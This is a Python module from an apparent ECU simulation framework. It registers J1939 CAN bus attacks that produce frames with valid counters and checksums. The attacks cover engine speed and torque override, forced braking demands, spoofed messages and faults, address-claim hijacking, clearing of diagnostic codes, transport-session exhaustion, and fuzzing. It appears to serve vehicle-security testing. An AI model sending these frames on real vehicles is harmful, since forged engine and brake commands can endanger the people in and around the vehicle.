"""The published attack kinds, each registered once with its parameters: the frames it sends at the
n-th tick of its window.

The frames are built from the project's own J1939 layer (requests, transport, DM messages) and
the DBC (TSC1, XBR and a spoofed message, with the counter and checksum J1939-71 asks for), so
an attack is exactly as valid as the traffic it imitates: a receiver that checks counters and
checksums still takes it. Everything random comes from the generator handed in, so the same
seed gives the same frames. The attacks that take part in a transport session are in
:mod:`ecu_sim.attack.session`, the replay of a log in :mod:`ecu_sim.attack.replay`.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass

import can
from cantools.database.can import Database, Message

from ecu_sim.attack.family import (
    ADDRESS,
    ADDRESSES,
    ATTACKS,
    NOT_NEGATIVE,
    NUMBER,
    PGN,
    SOURCE_DIAG,
    TRANSPORT_SIZE,
    WORD,
    Context,
)
from ecu_sim.attack.tick import Frames, every, frame, per_tick, repeat
from ecu_sim.codec.command import CommandCodec
from ecu_sim.codec.role import RoleCodec
from ecu_sim.codec.spn import SignalLayout, carriers, messages_with, spn_signals
from ecu_sim.j1939 import dm
from ecu_sim.j1939.frames import ADDRESS_CLAIMED_PGN, Pdu
from ecu_sim.j1939.ids import GLOBAL_ADDRESS, destination_of, make_id, source_address_of
from ecu_sim.j1939.request import request, single_frame
from ecu_sim.j1939.transport import BAM, CTS, abort, cm, packet_count
from ecu_sim.registry.family import ParamError, choice, param

# TSC1 and XBR SPNs (J1939-71)
_TSC1_MODE, _TSC1_PRIORITY, _TSC1_SPEED, _TSC1_TORQUE = 695, 897, 898, 518
_XBR_DEMAND, _XBR_PRIORITY, _XBR_MODE = 2920, 2915, 2916
_NO_PRIORITY = 0x3FFFFFF
_TSC1_MODES = {"speed": 1, "torque": 2, "limit": 3}
_XBR_MODES = {"add": 1, "max": 2}


@dataclass(frozen=True)
class Tsc1:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, "0x2a")
    rate: float = param(NOT_NEGATIVE, "100")
    speed: float | None = param(NUMBER)
    torque: float | None = param(NUMBER)
    mode: str | None = param(choice(*_TSC1_MODES))
    priority: float = param(NUMBER, "0")

    def __post_init__(self) -> None:
        if self.speed is None and self.torque is None:
            raise ParamError("tsc1 needs speed=RPM or torque=PCT")

    @property
    def chosen_mode(self) -> str:
        """The override mode: the one given, else speed control when a speed is given."""
        return self.mode if self.mode is not None else "speed" if self.speed is not None else "torque"


@ATTACKS.register("tsc1", Tsc1, "TSC1 with a valid counter and checksum: engine speed or torque override, "
                  "or a torque limit (engine brake disabled with target=0x0f,torque=0)")
def _tsc1(p: Tsc1, at: Context) -> Frames:
    found = [m for m in messages_with(at.database, _TSC1_TORQUE)
             if m.is_extended_frame and destination_of(m.frame_id) == p.target]
    if not found:
        known = ", ".join(f"0x{destination_of(m.frame_id):02x}"
                          for m in messages_with(at.database, _TSC1_TORQUE))
        raise at.refuse(f"the DBC has no TSC1 to 0x{p.target:02x}; it has TSC1 to {known or 'nobody'}")
    codec = CommandCodec(found[0], p.source)
    fixed = {_TSC1_MODE: float(_TSC1_MODES[p.chosen_mode]), _TSC1_PRIORITY: p.priority}
    demands = {spn: v for spn, v in ((_TSC1_SPEED, p.speed), (_TSC1_TORQUE, p.torque)) if v is not None}
    return _command(codec, fixed, demands, per_tick(p.rate, at.period_s))


@dataclass(frozen=True)
class Xbr:
    target: int = param(ADDRESS, "0x0b")
    source: int = param(ADDRESS, "0x2a")
    rate: float = param(NOT_NEGATIVE, "50")
    accel: float = param(NUMBER, "-4")
    mode: str = param(choice(*_XBR_MODES), "max")
    priority: float = param(NUMBER, "0")


@ATTACKS.register("xbr", Xbr, "XBR with a valid counter and checksum: a deceleration (or acceleration) "
                  "demand")
def _xbr(p: Xbr, at: Context) -> Frames:
    found = [m for m in messages_with(at.database, _XBR_DEMAND) if m.is_extended_frame]
    if not found:
        raise at.refuse(f"the DBC has no XBR (SPN {_XBR_DEMAND})")
    codec = CommandCodec(found[0], p.source, destination=p.target)
    fixed = {_XBR_MODE: float(_XBR_MODES[p.mode]), _XBR_PRIORITY: p.priority}
    return _command(codec, fixed, {_XBR_DEMAND: p.accel}, per_tick(p.rate, at.period_s))


def _command(codec: CommandCodec, fixed: dict[int, float], demands: dict[int, float],
             count: Callable[[int], int]) -> Frames:
    """A command stream whose counter runs on from frame to frame, as a genuine sender's does."""
    sent = [0]

    def make() -> can.Message:
        data = codec.encode(fixed, demands, sent[0])
        sent[0] += 1
        return can.Message(arbitration_id=codec.frame_id, data=data, is_extended_id=True)
    return repeat(make, count)


@dataclass(frozen=True)
class Spoof:
    message: str = param(WORD, "CCVS1")
    spn: float = param(NUMBER, "84")
    value: float = param(NUMBER, "0")
    source: int | None = param(ADDRESS)
    rate: float = param(NOT_NEGATIVE, "100")


@ATTACKS.register("spoof", Spoof, "another node's message with one SPN set, from that node's address")
def _spoof(p: Spoof, at: Context) -> Frames:
    message = _message(at, p.message)
    spn = int(p.spn)
    signals = spn_signals(message, {spn})
    if not signals:
        raise at.refuse(f"{message.name} carries no SPN {spn}")
    sender = source_address_of(message.frame_id) if p.source is None else p.source
    data = RoleCodec(message, signals[0][1], is_j1939=False).encode(p.value)
    ident = (message.frame_id & ~0xFF) | sender
    return repeat(lambda: can.Message(arbitration_id=ident, data=data, is_extended_id=True),
                   per_tick(p.rate, at.period_s))


def _message(at: Context, name: str) -> Message:
    database: Database = at.database
    for message in database.messages:
        if message.name.lower() == name.lower():
            return message
    names = ", ".join(sorted(m.name for m in database.messages))
    raise at.refuse(f"the DBC has no message {name!r}; it has {names}")


@dataclass(frozen=True)
class Request:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    pgn: int = param(PGN, "0xfeeb")
    rate: float = param(NOT_NEGATIVE, "2000")


@ATTACKS.register("request", Request, "request overload: Requests for a multi-packet PGN, as fast as the "
                  "rate")
def _request(p: Request, at: Context) -> Frames:
    pdu = request(p.pgn, p.target)
    return repeat(lambda: frame(pdu, p.source), per_tick(p.rate, at.period_s))


@dataclass(frozen=True)
class Exhaust:
    target: int = param(ADDRESS, "0x00")
    sources: tuple[int, ...] = param(ADDRESSES, "0x0b/0x11/0xf9")
    pgn: int = param(PGN, "0xfeeb")
    every: float = param(NOT_NEGATIVE, "1")


@ATTACKS.register("exhaust", Exhaust, "connection exhaustion: a Request and then CTS in the name of each "
                  "source, repeated so the sessions never end")
def _exhaust(p: Exhaust, at: Context) -> Frames:
    """MUK's connection exhaustion: each source asks, then keeps its session open with CTS."""
    due = every(p.every, at.period_s)
    hold = cm({"ControlByte": CTS, "CTS_Packets": 1, "CTS_NextSequence": 1, "CTS_PGN": p.pgn}, p.target)

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        if n == 0:
            return [frame(request(p.pgn, p.target), s) for s in p.sources]
        return [frame(hold, s) for s in p.sources] if due(n) else []
    return frames


def _once_or_every(pdu: Pdu, source: int, every_s: float, period_s: float) -> Frames:
    due = every(every_s, period_s)
    return lambda n, heard: [frame(pdu, source)] if due(n) else []


@dataclass(frozen=True)
class Claim:
    target: int = param(ADDRESS, "0x00")
    name: float = param(NUMBER, "0")
    every: float = param(NOT_NEGATIVE, "0")


@ATTACKS.register("claim", Claim, "address-claim attack: Address Claimed from the target's address with a "
                  "lower NAME (every=0: once)")
def _claim(p: Claim, at: Context) -> Frames:
    pdu = Pdu(ADDRESS_CLAIMED_PGN, int(p.name).to_bytes(8, "little"), GLOBAL_ADDRESS, 6)
    return _once_or_every(pdu, p.target, p.every, at.period_s)


@dataclass(frozen=True)
class Dm11:
    target: int = param(ADDRESS, "0xff")
    source: int = param(ADDRESS, SOURCE_DIAG)
    every: float = param(NOT_NEGATIVE, "0")


@ATTACKS.register("dm11", Dm11, "DM11: a Request to clear the active DTCs (every=0: once)")
def _dm11(p: Dm11, at: Context) -> Frames:
    # DM11, the clearing of active DTCs, is asked for by a Request of its PGN (J1939-73)
    return _once_or_every(request(dm.DM11_PGN, p.target), p.source, p.every, at.period_s)


@dataclass(frozen=True)
class Dm1:
    source: int = param(ADDRESS, "0x00")
    spn: float = param(NUMBER, "91")
    fmi: float = param(NUMBER, "9")
    rate: float = param(NOT_NEGATIVE, "1")


@ATTACKS.register("dm1", Dm1, "DM1 spoof: an active DTC and the amber lamp in the name of the source")
def _dm1(p: Dm1, at: Context) -> Frames:
    # the DM1 a node with this one DTC active sends, from the node's own DTC table: the same lamp,
    # the same packing, one occurrence
    table = dm.DtcTable()
    table.update({dm.Dtc(int(p.spn), int(p.fmi))})
    try:
        payload = table.dm1()
    except ValueError as exc:
        raise at.refuse(str(exc)) from None
    pdu = single_frame(dm.DM1_PGN, payload, GLOBAL_ADDRESS)
    return repeat(lambda: frame(pdu, p.source), per_tick(p.rate, at.period_s))


@dataclass(frozen=True)
class Abort:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    pgn: int = param(PGN, "0xfee3")
    reason: float = param(NUMBER, "3")
    rate: float = param(NOT_NEGATIVE, "10")


@ATTACKS.register("abort", Abort, "TP.Conn_Abort for a PGN's sessions, in the name of the source")
def _abort(p: Abort, at: Context) -> Frames:
    pdu = abort(p.pgn, int(p.reason), p.target)
    return repeat(lambda: frame(pdu, p.source), per_tick(p.rate, at.period_s))


@dataclass(frozen=True)
class Bam:
    source: int = param(ADDRESS, "0x00")
    pgn: int = param(PGN, "0xfee3")
    size: int = param(TRANSPORT_SIZE, "1785")
    rate: float = param(NOT_NEGATIVE, "10")


@ATTACKS.register("bam", Bam, "TP.CM_BAM announcing a large message in the name of the source, never "
                  "followed by data")
def _bam(p: Bam, at: Context) -> Frames:
    pdu = cm({"ControlByte": BAM, "BAM_TotalSize": p.size, "BAM_TotalPackets": packet_count(p.size),
              "BAM_PGN": p.pgn}, GLOBAL_ADDRESS)
    return repeat(lambda: frame(pdu, p.source), per_tick(p.rate, at.period_s))


@dataclass(frozen=True)
class Fuzz:
    source: int | None = param(ADDRESS)
    pgn: int | None = param(PGN)
    spn: float | None = param(NUMBER)
    rate: float = param(NOT_NEGATIVE, "2000")

    def __post_init__(self) -> None:
        if self.spn is not None and self.pgn is not None:
            raise ParamError("fuzz takes pgn= or spn=, not both")


@ATTACKS.register("fuzz", Fuzz, "random frames: any 29-bit identifier, one PGN (pgn=...) with random "
                  "data, or random values of one SPN (spn=...) in the messages that carry it, the rest the "
                  "sender's")
def _fuzz(p: Fuzz, at: Context) -> Frames:
    if p.spn is not None:
        return _fuzz_spn(p, int(p.spn), at)
    rng, pgn, source = at.rng, p.pgn, p.source

    def make() -> can.Message:
        data = rng.randbytes(8)
        if pgn is None:
            ident = rng.getrandbits(29)
            if source is not None:
                ident = (ident & ~0xFF) | source
        else:
            sender = rng.randrange(0xFE) if source is None else source
            ident = make_id(pgn, sender, rng.randrange(0x100), 6)
        return can.Message(arbitration_id=ident, data=data, is_extended_id=True)
    return repeat(make, per_tick(p.rate, at.period_s))


def _fuzz_spn(p: Fuzz, spn: int, at: Context) -> Frames:
    """Random raw values of one SPN's signal in a message that carries it, chosen at random; the
    other bytes are the genuine sender's last ones (all "not available" before it is heard), so
    only the parameter under test is wrong."""
    found = [(m, SignalLayout.of(s)) for m, s in carriers(at.database, spn) if m.is_extended_frame]
    if not found:
        raise at.refuse(f"the DBC has no message with SPN {spn}")
    rng, source, count = at.rng, p.source, per_tick(p.rate, at.period_s)
    last: dict[int, bytes] = {}  # the genuine frames heard, by identifier without the priority

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        for msg in heard:
            last[msg.arbitration_id & _NO_PRIORITY] = bytes(msg.data)
        out = []
        for _ in range(count(n)):
            message, layout = found[rng.randrange(len(found))]
            base = last.get(message.frame_id & _NO_PRIORITY, b"").ljust(message.length, b"\xff")
            data = layout.with_raw(int.from_bytes(base, "little"), len(base), rng.getrandbits(layout.length))
            ident = message.frame_id if source is None else (message.frame_id & ~0xFF) | source
            out.append(can.Message(arbitration_id=ident, data=data.to_bytes(len(base), "little"),
                                   is_extended_id=True))
        return out
    return frames
